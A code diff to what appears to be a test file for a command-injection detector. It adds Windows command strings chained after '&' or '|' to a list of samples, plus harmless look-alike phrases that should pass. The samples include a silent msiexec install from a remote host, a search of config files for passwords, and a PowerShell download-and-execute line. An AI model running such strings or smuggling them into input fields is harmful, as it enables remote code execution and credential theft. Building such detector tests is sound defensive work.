@@ -42,6 +42,13 @@ const samples = [
   'x | start "" /b whoami',
   '& echo %path%',
   'x & dir %userprofile%',
+  // Windows' script hosts, installers and admin tools after `&`; admin commands after a separator
+  'x & wscript c:/demo.vbs',
+  'x & msiexec /q /i http://x.example/a.msi',
+  'x & findstr /s password *.config',
+  'x & qwinsta',
+  'x & route print',
+  'x | sc qc demo',
   // PowerShell with a cmdlet, an alias or script as its command line
   'powershell IEX(New-Object Net.WebClient).DownloadString(x)',
   'pwsh get-content c:/demo.txt',
@@ -73,6 +80,10 @@ const shop = [
   'tom & start now',
   'echo %dot%',
   'ratio 3:~1',
+  // words after `&` in names and lists
+  'tom & tree lights',
+  'salt & pepper set',
+  'bus & route map',
   // book titles
   'powershell cookbook',
   'powershell (3rd edition)',
